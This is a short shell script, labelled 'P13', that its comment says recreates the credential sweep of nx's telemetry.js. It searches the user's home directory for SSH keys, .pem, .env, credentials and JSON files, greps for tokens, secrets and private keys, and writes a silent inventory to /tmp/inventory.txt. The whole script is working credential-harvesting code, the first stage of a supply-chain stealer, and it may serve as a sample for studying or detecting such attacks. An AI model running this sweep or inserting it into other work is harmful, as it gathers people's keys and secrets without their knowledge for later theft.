#!/bin/sh
# P13 in plain shell: sweep HOME for key files and token-looking strings, and keep an inventory in
# /tmp, as nx's telemetry.js did (/tmp/inventory.txt).
find "$HOME" -maxdepth 4 -type f \( -name 'id_*' -o -name '*.pem' -o -name '.env*' -o -name 'credentials*' -o -name '*.json' \) > /tmp/inventory.txt 2>/dev/null
grep -rIl -e 'token' -e 'secret' -e 'PRIVATE KEY' "$HOME" >> /tmp/inventory.txt 2>/dev/null
exit 0
